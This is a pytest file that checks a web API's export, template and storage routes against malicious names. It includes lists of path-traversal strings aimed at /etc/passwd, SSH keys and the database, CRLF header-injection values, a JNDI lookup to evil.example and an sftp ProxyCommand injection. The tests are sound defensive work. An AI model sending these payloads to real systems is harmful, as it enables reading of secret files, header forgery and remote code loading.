"""Names that lead elsewhere, break a header or a log line: none does, in whatever route it stands."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from served import Api

TRAVERSAL = [
    "../../../../etc/passwd",
    "..",
    "../yeti.db",
    "..\\..\\yeti.db",
    "/etc/passwd",
    "//etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\server\\share",
    "....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "%2e%2e%2fyeti.db",
    "%252e%252e%252fyeti.db",
    "..%c0%af..%c0%afyeti.db",
    "..%ef%bc%8fyeti.db",
    "..／yeti.db",  # noqa: RUF001
    "․․/yeti.db",  # noqa: RUF001
    "yeti.db\x00.txt",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "${HOME}/x",
    ".",
    "./",
    "a/../../yeti.db",
    "CON",
    "x" * 5_000,
]
BREAKING = [
    'a"; filename="evil.html',
    "a\r\nSet-Cookie: yeti_session=evil",
    "a\nX-Evil: 1",
    "a\u2028b",
    "a\x85b",
    "☃.txt",
    "a\u202egnp.exe",
    "\x1b[31mred",
    "${jndi:ldap://evil.example/a}",
]
SECRET = "root:x:0:0"


@pytest.fixture
def admin(api: Api, tmp_path: Path) -> Iterator[httpx.Client]:
    """Somebody who may do everything, and a file beside what is published that is nobody's business."""
    with api.client("admin") as client:
        yield client


def _harmless(answer: httpx.Response) -> bool:
    """Say whether an answer is a refusal or of our own making, with no header that somebody else wrote."""
    return (
        answer.status_code < 500
        and SECRET not in answer.text
        and not answer.text.startswith("SQLite format 3")
        and "x-evil" not in answer.headers
        and "evil" not in answer.headers.get("set-cookie", "")
        and bool(re.fullmatch(r"[A-Za-z0-9._-]{8,64}", answer.headers["x-request-id"]))
    )


def test_names_in_paths_lead_nowhere_else(api: Api, admin: httpx.Client) -> None:
    """Every route with a name in its path, every name, escaped once and as it is: never a fault, never a file."""
    routes = [
        (method.upper(), path)
        for path, operations in api.app.openapi()["paths"].items()
        for method in operations
        if "{" in path and method != "delete"
    ]
    # One name at each route, of another kind each time; the whole corpus at those that read files.
    reading = [("GET", "/exports/{name}"), ("GET", "/api/v2/exports/definitions/{name}/versions/1/files/{name}")]
    kinds = (TRAVERSAL[0], TRAVERSAL[11], BREAKING[1])
    wanted = [(route, kinds[number % len(kinds)]) for number, route in enumerate(routes)]
    wanted += [(route, name) for route in reading for name in TRAVERSAL + BREAKING]
    wrong = []
    for (method, path), name in wanted:
        for text in {quote(name, safe=""), quote(name)}:
            answer = admin.request(method, re.sub(r"\{\w+\}", lambda _, text=text: text, path))
            if not _harmless(answer) or (answer.status_code == 200 and path in dict(reading).values()):
                wrong.append((method, path, name[:40], answer.status_code))

    assert [] == wrong


@pytest.mark.parametrize("field", ["file-name", "name"])
def test_names_of_exports_and_files_stay_in_their_folder(
    api: Api, admin: httpx.Client, tmp_path: Path, field: str
) -> None:
    """What names a file is refused, or is a name in the folder of exports and nowhere else."""
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    made = 0
    for number, name in enumerate(TRAVERSAL + BREAKING):
        definition = {"name": f"x{number}", "format": "list", "types": ["ipv4"]} | {field: name}
        answer = admin.post("/api/v2/exports/definitions", json=definition)
        assert answer.status_code in (201, 422), (name, answer.status_code, answer.text)
        assert _harmless(answer)
        if answer.status_code == 201:
            made += 1
            file_name = answer.json()["file-name"]
            assert not {"..", "."} & set(file_name.split("/"))
            assert not re.search(r"[\x00-\x1f\x7f\\]|^/|^~", file_name), file_name

    assert made < len(TRAVERSAL + BREAKING)
    new = {path for path in tmp_path.rglob("*") if path.is_file()} - before
    assert [] == [path for path in new if "yeti.db" not in path.name]


def test_names_of_templates_are_no_paths(admin: httpx.Client) -> None:
    """Templates are rows; a name that looks like a path is refused or just a name."""
    for name in TRAVERSAL + BREAKING:
        answer = admin.post("/api/v2/templates/", json={"template": {"name": name, "template": "x"}})
        assert _harmless(answer), (name, answer.status_code)
        answer = admin.post("/api/v2/templates/render", json={"template_name": name, "search_query": ""})
        assert _harmless(answer), (name, answer.status_code)


@pytest.mark.parametrize(
    "place", ["/etc", "file:///etc/passwd", "s3://../x", "\x00", "~root", "sftp://-oProxyCommand=x/"]
)
def test_places_are_only_looked_at_by_admins(api: Api, place: str) -> None:
    """An editor cannot use the check of a storage to look around on the machine."""
    with api.client("editor") as editor:
        answer = editor.post("/api/v2/exports/storages/check", json={"path": place})

    # What no text may hold is refused before anybody is asked who it is.
    assert (422 if "\0" in place else 403) == answer.status_code


@pytest.mark.parametrize("value", ["x", "a b", 'a"b', "é" * 10, "a" * 65, "a\tb", "../../x", "12345678\\"])
def test_request_id_of_somebody_else_is_not_repeated_unless_it_is_plain(api: Api, value: str) -> None:
    """It ends up in log lines and headers."""
    with api.client(None) as client:
        answer = client.get("/openapi.json", headers={"X-Request-ID": value.encode()})

    assert value != answer.headers["x-request-id"]
    assert re.fullmatch(r"[0-9a-f]{16}", answer.headers["x-request-id"])


def test_plain_request_id_is_kept(api: Api) -> None:
    """So that a line of the proxy in front can be found again."""
    with api.client(None) as client:
        answer = client.get("/openapi.json", headers={"X-Request-ID": "proxy-4f2a9c0d.1"})

    assert "proxy-4f2a9c0d.1" == answer.headers["x-request-id"]
